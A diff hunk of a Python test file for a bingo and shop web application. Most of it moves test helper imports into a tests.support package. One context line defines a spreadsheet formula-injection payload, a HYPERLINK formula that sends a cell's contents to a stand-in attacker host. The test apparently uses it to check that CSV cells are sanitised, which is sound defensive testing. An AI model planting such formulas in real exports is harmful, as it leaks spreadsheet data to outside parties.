@@ -17,11 +17,12 @@ from sqlalchemy.orm import Session
 from bingo.web import views as bingo_views
 from shared.core.roles import Role
 from shared.reports.csv_cells import safe_cell
-from tests.conftest import Api, Clock
-from tests.factories import PASSWORD, PIN, make_member, make_user
-from tests.test_bingo_occasion_api import ok, refused, staff
-from tests.test_books_concurrency import race
-from tests.test_cashier_sales import line, shop
+from tests.support.client import Api, staff
+from tests.support.clock import Clock
+from tests.support.factories import PASSWORD, PIN, make_member, make_user
+from tests.support.races import race
+from tests.support.replies import ok, refused
+from tests.support.shop import line, shop
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
